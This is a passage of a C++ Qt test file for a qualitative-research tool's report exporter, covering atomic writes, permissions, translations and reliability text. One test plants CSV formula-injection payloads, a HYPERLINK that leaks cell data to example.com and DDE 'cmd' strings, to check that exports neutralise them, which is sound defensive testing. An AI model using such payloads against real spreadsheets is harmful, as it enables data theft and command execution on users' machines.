                   && process.exitCode() == 0;
        };
        QElapsedTimer clock;
        clock.start();
        QVERIFY(runToEnd());
        const qint64 fullRun = std::max<qint64>(clock.elapsed(), 50);
        auto isWholeReport = [&] {
            const QString text = odtText(zipEntry(path, QStringLiteral("content.xml")));
            return !text.startsWith(QStringLiteral("XML ERROR")) && text.contains(QStringLiteral("我们用于教学的方法是讨论"));
        };
        QVERIFY(isWholeReport());
        int killed = 0;
        int finished = 0;
        for (int run = 0; run < 10; ++run) {
            QProcess process;
            process.start(QStringLiteral(MARGINALIA_CLI), arguments);
            QVERIFY(process.waitForStarted());
            // From early (still starting) to late (writing or done): run/10 of 1.2 full runs.
            QTest::qWait(static_cast<int>(fullRun * 12 * run / 100));
            if (process.state() == QProcess::Running)
                ::kill(static_cast<pid_t>(process.processId()), SIGKILL);
            if (process.state() != QProcess::NotRunning)
                QVERIFY(process.waitForFinished(60000));
            if (process.exitStatus() == QProcess::CrashExit)
                ++killed;
            else
                ++finished;
            QVERIFY2(isWholeReport(), qPrintable(QStringLiteral("after run %1").arg(run)));
        }
        QVERIFY2(killed > 0, "no run was killed: the test proved nothing");
        qInfo("%d runs killed, %d finished", killed, finished);
        QVERIFY(runToEnd());
        const QStringList left = QDir(folder.path()).entryList(QDir::Files | QDir::Hidden);
        QCOMPARE(left, QStringList{QStringLiteral("k.odt")});
    }

    // The cause is named: permission (injected, since root passes every permission check) and a missing folder.
    void failuresNameTheirCause()
    {
        QTemporaryDir folder;
        auto data = ReportWriter::collect(*m_project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("c.md"));
        AtomicFile::injectWriteFailure(10, EACCES);
        auto written = ReportWriter::write(*m_project, *data, ReportFormat::Markdown, path);
        AtomicFile::injectWriteFailure(-1, 0);
        QVERIFY(!written);
        QVERIFY2(written.error().contains(QStringLiteral("permission denied")), qPrintable(marginalia::errorText(written)));
        QVERIFY(!QFile::exists(path));
        QVERIFY(QDir(folder.path()).entryList(QDir::Files | QDir::Hidden).isEmpty());
        written = ReportWriter::write(*m_project, *data, ReportFormat::Docx, QDir(folder.path()).filePath(QStringLiteral("no/c.docx")));
        QVERIFY(!written);
        QVERIFY2(written.error().contains(QStringLiteral("the folder does not exist")), qPrintable(marginalia::errorText(written)));
    }

    // New reports get the permissions the umask gives any new file; a replaced report keeps its mode.
    void permissionsFollowTheUsersFiles()
    {
        QTemporaryDir folder;
        auto data = ReportWriter::collect(*m_project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("p.html"));
        const mode_t previous = ::umask(022);
        const bool written = bool(ReportWriter::write(*m_project, *data, ReportFormat::Html, path));
        ::umask(previous);
        QVERIFY(written);
        struct stat status {};
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &status), 0);
        QCOMPARE(status.st_mode & 07777, mode_t(0644));   // 0666 & ~022
        QCOMPARE(::chmod(QFile::encodeName(path).constData(), 0640), 0);
        QVERIFY(ReportWriter::write(*m_project, *data, ReportFormat::Html, path));
        QCOMPARE(::stat(QFile::encodeName(path).constData(), &status), 0);
        QCOMPARE(status.st_mode & 07777, mode_t(0640));
        // Through a symbolic link: the file it points to is replaced, the link stays a link.
        const QString link = QDir(folder.path()).filePath(QStringLiteral("link.html"));
        QVERIFY(QFile::link(path, link));
        ReportData titled = *data;
        titled.title = QStringLiteral("Through the link");
        QVERIFY(ReportWriter::write(*m_project, titled, ReportFormat::Html, link));
        QVERIFY(QFileInfo(link).isSymLink());
        QFile target(path);
        QVERIFY(target.open(QIODevice::ReadOnly));
        QVERIFY(target.readAll().contains("Through the link"));
    }

    // A killed writer's temporary (its process gone) is removed when the report is written next; a running
    // writer's (this process) and other files stay.
    void staleTemporariesAreRemovedByName()
    {
        QTemporaryDir folder;
        QDir dir(folder.path());
        // A process id that is not running: a child that has exited and been reaped.
        QProcess child;
        child.start(QStringLiteral("true"));
        QVERIFY(child.waitForFinished());
        const qint64 deadPid = child.processId() > 0 ? child.processId() : 999999;
        const QString dead = QStringLiteral(".s.html.marginalia-tmp-%1-AbC123").arg(deadPid);
        const QString running = QStringLiteral(".s.html.marginalia-tmp-%1-XyZ789").arg(::getpid());
        const QString other = QStringLiteral(".s.html.part");
        for (const QString &name : {dead, running, other}) {
            QFile file(dir.filePath(name));
            QVERIFY(file.open(QIODevice::WriteOnly));
            file.write("half a report");
        }
        auto data = ReportWriter::collect(*m_project, {});
        QVERIFY(data);
        QVERIFY(ReportWriter::write(*m_project, *data, ReportFormat::Html, dir.filePath(QStringLiteral("s.html"))));
        QStringList left = dir.entryList(QDir::Files | QDir::Hidden);
        left.sort();
        QStringList expected{other, running, QStringLiteral("s.html")};
        expected.sort();
        QCOMPARE(left, expected);
    }

    // Names, sites, coders and memos that a spreadsheet would run as formulas come out as text, read back by
    // Python's csv module (what a spreadsheet's importer does): a leading quote, then the text unchanged.
    void csvCannotAttackItsReader()
    {
        QTemporaryDir folder;
        auto created = Project::create(QDir(folder.path()).filePath(QStringLiteral("h.marginalia")));
        QVERIFY(created);
        Project &project = **created;
        const QString documentName = QStringLiteral("=HYPERLINK(\"http://example.com/?leak=\"&A1)");
        const QString codeName = QStringLiteral("+cmd|' -C calc'!A0");
        const QString coder = QStringLiteral("@SUM(1+1)");
        const QString memo = QStringLiteral("-2+3");
        const QString site = QStringLiteral("-1+cmd|' -C calc'!A0");
        project.setCurrentCoder(coder);
        NewDocument document;
        document.name = documentName;
        document.text = QStringLiteral("=1+1 is a formula\n");
        DocumentStore store(project);
        auto id = store.add(document);
        QVERIFY2(id, id ? "" : qPrintable(id.error()));
        QVERIFY(store.setAttribute(*id, QStringLiteral("site"), site));
        NewCode code;
        code.name = codeName;
        auto codeId = Codebook(project).add(code);
        QVERIFY2(codeId, codeId ? "" : qPrintable(codeId.error()));
        NewCoding coding;
        coding.documentId = *id;
        coding.codeId = *codeId;
        coding.start = 0;
        coding.end = 4;   // "=1+1": the excerpt is hostile too
        coding.memo = memo;
        QVERIFY(CodingStore(project).add(coding));
        auto data = ReportWriter::collect(project, {});
        QVERIFY(data);
        const QString path = QDir(folder.path()).filePath(QStringLiteral("h.csv"));
        QVERIFY(ReportWriter::write(project, *data, ReportFormat::Csv, path));

        QProcess python;
        python.start(QStringLiteral("python3"),
                     {QStringLiteral("-c"),
                      QStringLiteral("import csv, json, sys\n"
                                     "with open(sys.argv[1], newline='', encoding='utf-8-sig') as f:\n"
                                     "    print(json.dumps([dict(r) for r in csv.DictReader(f)]))\n"),
                      path});
        if (!python.waitForFinished(30000) || python.exitCode() != 0)
            QSKIP("python3 is not available");
        const QJsonArray rows = QJsonDocument::fromJson(python.readAllStandardOutput()).array();
        QCOMPARE(rows.size(), 1);
        const QJsonObject row = rows.first().toObject();
        QCOMPARE(row.value(QStringLiteral("document")).toString(), u'\'' + documentName);
        QCOMPARE(row.value(QStringLiteral("code")).toString(), u'\'' + codeName);
        QCOMPARE(row.value(QStringLiteral("coders")).toString(), u'\'' + coder);
        QCOMPARE(row.value(QStringLiteral("memo")).toString(), u'\'' + memo);
        QCOMPARE(row.value(QStringLiteral("site")).toString(), u'\'' + site);
        QCOMPARE(row.value(QStringLiteral("excerpt")).toString(), QStringLiteral("'=1+1"));
        // Our own numbers stay numbers: characters 1–4, paragraph 1, one coding.
        QCOMPARE(row.value(QStringLiteral("first_character")).toString(), QStringLiteral("1"));
        QCOMPARE(row.value(QStringLiteral("last_character")).toString(), QStringLiteral("4"));
        QCOMPARE(row.value(QStringLiteral("first_paragraph")).toString(), QStringLiteral("1"));
        QCOMPARE(row.value(QStringLiteral("codings")).toString(), QStringLiteral("1"));
        // The rule itself: tab, carriage return and full-width signs too; plain numbers are no formulas.
        QCOMPARE(csvTextField(QStringLiteral("\tx")), QStringLiteral("'\tx"));
        QCOMPARE(csvTextField(QStringLiteral("\r=1")), QStringLiteral("\"'\r=1\""));
        QCOMPARE(csvTextField(QStringLiteral("＝1+1")), QStringLiteral("'＝1+1"));
        QCOMPARE(csvTextField(QStringLiteral("-3")), QStringLiteral("-3"));
        QCOMPARE(csvTextField(QStringLiteral("-0.25")), QStringLiteral("-0.25"));
        QCOMPARE(csvTextField(QStringLiteral("a=b")), QStringLiteral("a=b"));
        // No cell of the file begins with a formula character.
        for (auto it = row.constBegin(); it != row.constEnd(); ++it) {
            const QString cell = it.value().toString();
            QVERIFY2(cell.isEmpty() || !QStringLiteral("=+-@\t\r").contains(cell.front()), qPrintable(it.key()));
        }
    }

    void cli()
    {
        const QString out = m_dir.filePath(QStringLiteral("cli.pdf"));
        QProcess process;
        QProcessEnvironment environment = QProcessEnvironment::systemEnvironment();
        environment.remove(QStringLiteral("QT_QPA_PLATFORM"));
        process.setProcessEnvironment(environment);
        process.start(QStringLiteral(MARGINALIA_CLI),
                      {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), out, QStringLiteral("--code"),
                       QStringLiteral("教学方法"), QStringLiteral("--by"), QStringLiteral("site")});
        QVERIFY(process.waitForFinished(60000));
        QVERIFY2(process.exitCode() == 0, process.readAllStandardError().constData());
        auto read = readDocumentFile(out);
        QVERIFY(read);
        QVERIFY(withoutSpace(read->text).contains(QStringLiteral("我们用于教学的方法是讨论")));
        QVERIFY(!read->text.contains(QStringLiteral("reflect.")));
        process.start(QStringLiteral(MARGINALIA_CLI),
                      {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), m_dir.filePath(QStringLiteral("x.rtf"))});
        QVERIFY(process.waitForFinished(60000));
        QCOMPARE(process.exitCode(), 2);
    }

    // `report --language`: every label in the chosen language (marginalia_<language>.qm, context
    // marginalia::ReportLabels), the researcher's text, names and attribute values as they are; English by default.
    // The expectations are the translations written by hand (translations-pending/reportlang.tsv); the citations are
    // those worked out in checkHasEverything(): 北京 paragraph 2, speaker 教师, characters 19–30, coders Li Na, Wang.
    // --reliability ends the report with the agreement methods paragraph. Worked out from initTestCase: Wang coded
    // only 北京-教师访谈.txt, so the documents both coders coded are that one; its text has two paragraphs (the
    // interviewer's line, the teacher's line); the only code either applied there is 教学方法, which both applied to
    // the teacher's paragraph and neither to the other: 2 paragraph units, both agreed, percent agreement 100.0 %.
    void reliabilitySection()
    {
        const QString out = m_dir.filePath(QStringLiteral("reliability.md"));
        QProcess process;
        process.start(QStringLiteral(MARGINALIA_CLI),
                      {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), out,
                       QStringLiteral("--reliability"), QStringLiteral("Li Na, Wang")});
        QVERIFY(process.waitForFinished(60000));
        QCOMPARE(process.exitCode(), 0);
        QFile file(out);
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QString markdown = QString::fromUtf8(file.readAll());
        const qsizetype section = markdown.indexOf(QStringLiteral("## Reliability\n\n"));
        QVERIFY2(section > 0, qPrintable(markdown));
        // Before the document memos, after every excerpt.
        QVERIFY(section > markdown.lastIndexOf(QStringLiteral("> ")));
        const QString paragraph = markdown.mid(section);
        for (const QString &part : {QStringLiteral("2 coders (Li Na, Wang) coded 1 document independently"),
                                    QStringLiteral("each of 1 code with the paragraph as the unit of analysis (2 units per code"),
                                    QStringLiteral("percent agreement = 100.0 %")})
            QVERIFY2(paragraph.contains(part), qPrintable(part + QStringLiteral("\n") + paragraph));
        // One coder is refused (exit 2) before anything is written.
        process.start(QStringLiteral(MARGINALIA_CLI),
                      {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"),
                       m_dir.filePath(QStringLiteral("one-coder.md")), QStringLiteral("--reliability"), QStringLiteral("Li Na")});
        QVERIFY(process.waitForFinished(60000));
        QCOMPARE(process.exitCode(), 2);
        QVERIFY(!QFile::exists(m_dir.filePath(QStringLiteral("one-coder.md"))));
    }

    // The Reliability paragraph in the report's language, its counts in their plural forms. A result as the paragraph
    // unit gives it: coders A and B, `documents` documents, as many codes, 3 paragraph units per code (so 3 × codes
    // units pooled), all agreed (100.0 %), no statistic beyond percent agreement (every value the same), no
    // bootstrap. The translations are those written by hand in translations-pending/layout.tsv; the check is
    // skipped while the installed .qm lacks them.
    static bool hasMethodsText(const QString &language)
    {
        QTranslator translator;
        return translator.load(QStringLiteral("marginalia_%1.qm").arg(language),
                               QFileInfo(QStringLiteral(MARGINALIA_CLI)).absolutePath())
               && !translator.translate("marginalia::ReportLabels", "%n coder(s) (%1) coded %2 independently.", nullptr, 2)
                       .isEmpty();
    }

    void reliabilityParagraphInTheReportLanguage_data()
    {
        QTest::addColumn<QString>("language");
        QTest::addColumn<int>("documents");
        QTest::addColumn<QString>("expected");   // the first two sentences
        QTest::addColumn<QString>("statistic");
        QTest::newRow("en 1") << "en" << 1
                              << QStringLiteral("2 coders (A, B) coded 1 document independently. Agreement was assessed for "
                                                "each of 1 code with the paragraph as the unit of analysis (3 units per code, "
                                                "3 code × unit decisions per coder in all);")
                              << QStringLiteral("percent agreement = 100.0 %");
        QTest::newRow("en 2") << "en" << 2
                              << QStringLiteral("2 coders (A, B) coded 2 documents independently. Agreement was assessed for "
                                                "each of 2 codes with the paragraph as the unit of analysis (3 units per code, "
                                                "6 code × unit decisions per coder in all);")
                              << QStringLiteral("percent agreement = 100.0 %");
        QTest::newRow("de 1") << "de" << 1
                              << QStringLiteral("2 Codierer (A, B) codierten 1 Dokument unabhängig voneinander. Die "
                                                "Übereinstimmung wurde für jeden Code einzeln bestimmt (1 Code), "
                                                "Analyseeinheit war der Absatz (3 Einheiten je Code, insgesamt 3 "
                                                "Entscheidungen Code × Einheit je Codierer);")
                              << QStringLiteral("prozentuale Übereinstimmung = 100.0 %");
        QTest::newRow("de 2") << "de" << 2
                              << QStringLiteral("2 Codierer (A, B) codierten 2 Dokumente unabhängig voneinander. Die "
                                                "Übereinstimmung wurde für jeden Code einzeln bestimmt (2 Codes), "
                                                "Analyseeinheit war der Absatz (3 Einheiten je Code, insgesamt 6 "
                                                "Entscheidungen Code × Einheit je Codierer);")
                              << QStringLiteral("prozentuale Übereinstimmung = 100.0 %");
        QTest::newRow("sv 1") << "sv" << 1
                              << QStringLiteral("2 kodare (A, B) kodade 1 dokument oberoende av varandra. Överensstämmelsen "
                                                "bedömdes för varje kod för sig (1 kod) med stycket som analysenhet (3 "
                                                "enheter per kod, sammanlagt 3 beslut kod × enhet per kodare);")
                              << QStringLiteral("procentuell överensstämmelse = 100.0 %");
        QTest::newRow("sv 2") << "sv" << 2
                              << QStringLiteral("2 kodare (A, B) kodade 2 dokument oberoende av varandra. Överensstämmelsen "
                                                "bedömdes för varje kod för sig (2 koder) med stycket som analysenhet (3 "
                                                "enheter per kod, sammanlagt 6 beslut kod × enhet per kodare);")
                              << QStringLiteral("procentuell överensstämmelse = 100.0 %");
        // Chinese sentences end with a full-width full stop and follow each other without a space.
        QTest::newRow("zh_CN 1") << "zh_CN" << 1
                                 << QStringLiteral("2 名编码者（A, B）独立编码了 1 个文档。以段落为分析单位，对每个代码（共 1 "
                                                   "个代码）分别评估一致性（每个代码 3 个单位，每名编码者共 3 个“代码 × "
                                                   "单位”判断）；")
                                 << QStringLiteral("百分比一致性 = 100.0 %");
        QTest::newRow("zh_CN 2") << "zh_CN" << 2
                                 << QStringLiteral("2 名编码者（A, B）独立编码了 2 个文档。以段落为分析单位，对每个代码（共 2 "
                                                   "个代码）分别评估一致性（每个代码 3 个单位，每名编码者共 6 个“代码 × "
                                                   "单位”判断）；")
                                 << QStringLiteral("百分比一致性 = 100.0 %");
    }
    void reliabilityParagraphInTheReportLanguage()
    {
        QFETCH(QString, language);
        QFETCH(int, documents);
        QFETCH(QString, expected);
        QFETCH(QString, statistic);
        auto labels = ReportLabels::load(language, {QFileInfo(QStringLiteral(MARGINALIA_CLI)).absolutePath()});
        QVERIFY2(labels, labels ? "" : qPrintable(labels.error()));
        if (language != u"en" && !hasMethodsText(language))
            QSKIP("this translation has no Reliability paragraph yet (translations-pending/layout.tsv)");
        AgreementResult result;
        result.coders = {QStringLiteral("A"), QStringLiteral("B")};
        result.unit = AgreementUnit::Paragraph;
        for (int i = 0; i < documents; ++i) {
            result.documents.append(QStringLiteral("d%1").arg(i));
            CodeAgreement code;
            code.codeId = i + 1;
            result.codes.append(code);
        }
        result.overall.units = 3 * documents;
        result.overall.percentAgreement = 100;
        const QString paragraph = labels->agreementMethods(result);
        QVERIFY2(paragraph.startsWith(expected), qPrintable(paragraph));
        QVERIFY2(paragraph.contains(statistic), qPrintable(paragraph));
        QVERIFY2(!paragraph.contains(QStringLiteral("(s)")), qPrintable(paragraph));
        if (language != u"en")
            QVERIFY2(!paragraph.contains(QStringLiteral("Krippendorff (2004), α ≥ 0.800 is taken")), qPrintable(paragraph));
    }

    // The matched segments of the segment unit are counted in their plural form too (English).
    void reliabilityParagraphCountsSegments()
    {
        AgreementResult result;
        result.coders = {QStringLiteral("A"), QStringLiteral("B")};
        result.unit = AgreementUnit::Segment;
        result.overlapPercent = 80;
        result.documents = {QStringLiteral("d")};
        result.codes.append(CodeAgreement{});
        result.overall.units = 1;
        QVERIFY2(ReportLabels().agreementMethods(result).contains(QStringLiteral(
                     "each of 1 code with the coded segment (two codings matched when they overlapped by at least 80 % "
                     "of their union) as the unit of analysis, 1 matched segment in all.")),
                 qPrintable(ReportLabels().agreementMethods(result)));
        result.overall.units = 2;
        QVERIFY(ReportLabels().agreementMethods(result).contains(QStringLiteral(", 2 matched segments in all.")));
    }

    // Counts in reports take the form their number asks for in each language: "1 passage", never "1 passages"
    // (German "1 Passagen" was the bug). The head line with 1 and with 2 of each, from the installed translations
    // (the .qm beside marginalia-cli, as `report --language` reads them). The forms are those written by hand in
    // translations-pending/layout.tsv; Chinese has one form and a measure word (个).
    // Whether the installed translation has the report's plural count forms (added after the report labels).
    static bool hasCountForms(const QString &language)
    {
        QTranslator translator;
        return translator.load(QStringLiteral("marginalia_%1.qm").arg(language),
                               QFileInfo(QStringLiteral(MARGINALIA_CLI)).absolutePath())
               && !translator.translate("marginalia::ReportLabels", "%n passage(s)", nullptr, 1).isEmpty();
    }

    void countLabelsFollowTheNumber_data()
    {
        QTest::addColumn<QString>("language");
        QTest::addColumn<qint64>("n");
        QTest::addColumn<QString>("expected");
        QTest::newRow("en 1") << "en" << qint64(1) << QStringLiteral("Project P · 1 passage (1 coding) · generated G");
        QTest::newRow("en 2") << "en" << qint64(2) << QStringLiteral("Project P · 2 passages (2 codings) · generated G");
        QTest::newRow("de 1") << "de" << qint64(1) << QStringLiteral("Projekt P · 1 Passage (1 Codierung) · erstellt G");
        QTest::newRow("de 2") << "de" << qint64(2) << QStringLiteral("Projekt P · 2 Passagen (2 Codierungen) · erstellt G");
        QTest::newRow("sv 1") << "sv" << qint64(1) << QStringLiteral("Projekt P · 1 passage (1 kodning) · skapad G");
        QTest::newRow("sv 2") << "sv" << qint64(2) << QStringLiteral("Projekt P · 2 passager (2 kodningar) · skapad G");
        QTest::newRow("zh_CN 1") << "zh_CN" << qint64(1) << QStringLiteral("项目 P · 1 个片段（1 个编码）· 生成于 G");
        QTest::newRow("zh_CN 2") << "zh_CN" << qint64(2) << QStringLiteral("项目 P · 2 个片段（2 个编码）· 生成于 G");
    }
    void countLabelsFollowTheNumber()
    {
        QFETCH(QString, language);
        QFETCH(qint64, n);
        QFETCH(QString, expected);
        const QString folder = QFileInfo(QStringLiteral(MARGINALIA_CLI)).absolutePath();
        auto labels = ReportLabels::load(language, {folder});
        QVERIFY2(labels, labels ? "" : qPrintable(labels.error()));
        if (language != u"en" && !hasCountForms(language))
            QSKIP("this translation has no plural forms for the report counts yet (translations-pending/layout.tsv)");
        QCOMPARE(labels->head(QStringLiteral("P"), n, n, QStringLiteral("G")), expected);
        // The two counts are independent: 1 passage with 2 codings.
        QVERIFY(labels->head(QStringLiteral("P"), 1, 2, QStringLiteral("G")).contains(labels->passageCount(1)));
        QVERIFY(labels->head(QStringLiteral("P"), 1, 2, QStringLiteral("G")).contains(labels->codingCount(2)));
    }

    void reportLanguages()
    {
        Codebook codebook(*m_project);
        auto methods = codebook.find(QStringLiteral("教学方法"));
        QVERIFY(methods);
        QVERIFY(codebook.setDescription(*methods, QStringLiteral("How teachers say they teach.")));
        QVERIFY(codebook.setMemo(*methods, QStringLiteral("Split later?")));
        auto documents = DocumentStore(*m_project).list();
        QVERIFY(documents);
        for (const DocumentInfo &document : *documents) {
            if (document.name == u"kunming-teacher.txt")
                QVERIFY(DocumentStore(*m_project).setMemo(document.id, QStringLiteral("Staff room.")));
        }
        const auto report = [&](const QString &name, const QStringList &extra) -> QString {
            const QString out = m_dir.filePath(name);
            QProcess process;
            process.start(QStringLiteral(MARGINALIA_CLI),
                          QStringList{QStringLiteral("report"), m_project->path(), QStringLiteral("--out"), out,
                                      QStringLiteral("--matrix")}
                              + extra);
            if (!process.waitForFinished(60000) || process.exitCode() != 0)
                return QStringLiteral("failed: ") + QString::fromUtf8(process.readAllStandardError());
            QFile file(out);
            return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QStringLiteral("unreadable");
        };

        // English, with no --language: the labels as before.
        const QString english = report(QStringLiteral("lang-en.md"), {});
        for (const QString &label :
             {QStringLiteral("# Coded excerpts — "), QStringLiteral("3 passages (4 codings)"), QStringLiteral("## Codes × site"),
              QStringLiteral("| Code |"), QStringLiteral(" Total |"), QStringLiteral("**Definition:** How teachers say they teach."),
              QStringLiteral("*Code memo: Split later?*"), QStringLiteral("## Document memos"),
              QStringLiteral("kind: teacher interview; site: 北京 · paragraph 2 · speaker 教师 · characters 19–30 · coders Li Na, Wang"),
              QStringLiteral("coder Li Na"), QStringLiteral("Passages / codings (documents with the code).")})
            QVERIFY2(english.contains(label), qPrintable(label + QStringLiteral("\n") + english));
        QCOMPARE(report(QStringLiteral("lang-en2.md"), {QStringLiteral("--language"), QStringLiteral("en")}).size(),
                 english.size());

        const QString german = report(QStringLiteral("lang-de.md"), {QStringLiteral("--language"), QStringLiteral("de")});
        for (const QString &label :
             {QStringLiteral("# Codierte Auszüge — "), QStringLiteral("## Codes × Standort"), QStringLiteral(" Gesamt |"),
              QStringLiteral("**Definition:** How teachers say they teach."), QStringLiteral("*Code-Memo: Split later?*"),
              QStringLiteral("## Dokument-Memos"),
              QStringLiteral("Art: teacher interview; Standort: 北京 · Absatz 2 · Sprecher 教师 · Zeichen 19–30 · Codierer Li Na, Wang"),
              QStringLiteral("Passagen / Codierungen (Dokumente mit dem Code).")})
            QVERIFY2(german.contains(label), qPrintable(label + QStringLiteral("\n") + german));
        // The head line's counts come from plural messages the translations may not have yet (countLabelsFollowTheNumber).
        if (hasCountForms(QStringLiteral("de"))) {
            QVERIFY2(german.contains(QStringLiteral("Projekt ")) && german.contains(QStringLiteral("3 Passagen (4 Codierungen)")),
                     qPrintable(german));
            QVERIFY(!german.contains(QStringLiteral("passages")));
        }
        QVERIFY(!german.contains(QStringLiteral("coder")));

        const QString chinese = report(QStringLiteral("lang-zh.md"), {QStringLiteral("--language"), QStringLiteral("zh_CN")});
        for (const QString &label :
             {QStringLiteral("# 编码摘录 — "), QStringLiteral("## 代码 × 地点"),
              QStringLiteral("| 代码 |"), QStringLiteral(" 合计 |"), QStringLiteral("**定义：**How teachers say they teach."),
              QStringLiteral("*代码备忘录：Split later?*"), QStringLiteral("## 文档备忘录"),
              QStringLiteral("类型: teacher interview; 地点: 北京 · 段落 2 · 发言人 教师 · 字符 19–30 · 编码者 Li Na, Wang")})
            QVERIFY2(chinese.contains(label), qPrintable(label + QStringLiteral("\n") + chinese));
        if (hasCountForms(QStringLiteral("zh_CN")))
            QVERIFY2(chinese.contains(QStringLiteral("3 个片段（4 个编码）")), qPrintable(chinese));

        // The other formats take the same labels: the ODT's text in German.
        const QString odt = m_dir.filePath(QStringLiteral("lang-de.odt"));
        QProcess process;
        process.start(QStringLiteral(MARGINALIA_CLI), {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"),
                                                       odt, QStringLiteral("--language"), QStringLiteral("de")});
        QVERIFY(process.waitForFinished(60000));
        QCOMPARE(process.exitCode(), 0);
        const QString odtBody = odtText(zipEntry(odt, QStringLiteral("content.xml")));
        QVERIFY2(odtBody.contains(QStringLiteral("\nCode-Memo: Split later?\n")), qPrintable(odtBody));
        QVERIFY(odtBody.contains(QStringLiteral("Dokument-Memos\nkunming-teacher.txt\nStaff room.\n")));

        // A language reports are not written in is a usage error, before anything is written.
        process.start(QStringLiteral(MARGINALIA_CLI), {QStringLiteral("report"), m_project->path(), QStringLiteral("--out"),
                                                       m_dir.filePath(QStringLiteral("lang-fr.md")),
                                                       QStringLiteral("--language"), QStringLiteral("fr")});
        QVERIFY(process.waitForFinished(60000));
        QCOMPARE(process.exitCode(), 2);
        QVERIFY(!QFile::exists(m_dir.filePath(QStringLiteral("lang-fr.md"))));

        QVERIFY(codebook.setDescription(*methods, {}));
        QVERIFY(codebook.setMemo(*methods, {}));
        for (const DocumentInfo &document : *documents)
            QVERIFY(DocumentStore(*m_project).setMemo(document.id, {}));
    }
};

QTEST_MAIN(TestReport)
#include "test_report.moc"
